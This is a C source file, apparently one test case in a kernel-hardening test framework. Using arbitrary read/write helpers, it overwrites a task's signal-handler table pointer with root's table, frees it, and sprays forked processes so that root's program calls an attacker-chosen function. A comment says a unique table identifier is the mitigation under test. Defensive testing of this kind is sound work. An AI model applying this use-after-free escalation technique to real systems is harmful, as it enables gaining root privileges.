// SPDX-License-Identifier: GPL-2.0-only
/* While its table is free, root's program has no handler: a signal that is then ignored. */
#define ROOTS_SIGNAL SIGURG
#include "handler.h"

ATTACK("cred_integrity", "handlers_freed_in_use",
       "cred_integrity: signal handlers of another program",
       "A program of the attacker's ends with the table of signal handlers of a program of root in "
       "the place of its own: that is freed. Then he makes programs until one of them has its "
       "handlers there.",
       "The seal of a program says which table is its own by a number, too, that no other table "
       "ever has.",
       "At the next signal root's program runs a function of the attacker's choice.");

#define PROGRAMS 60

static void prepare(void)
{
}

static void look(void)
{
}

static uint64_t table_of(uint64_t task)
{
	return peek(peek(task + member("task.process")) + member("process.actions")) +
	       member("signal_actions.table");
}

static void end_with(uint64_t table)
{
	const long child = fork_program();

	if (child == 0) {
		poke(table_of(own_task()), table);
		leave(0);
	}
	(void)wait_program(child);
}

static bool fire(void)
{
	const uint64_t table = peek(table_of(victim_task(own_task())));

	(void)own_cpu(0); /* what is freed here is used again here */
	handle(ROOTS_SIGNAL, give_prize);
	end_with(table);
	for (int i = 0; i < PROGRAMS; i++) {
		if (fork_program() == 0) {
			for (;;)
				call0(__NR_pause);
		}
	}
	return prize_given();
}
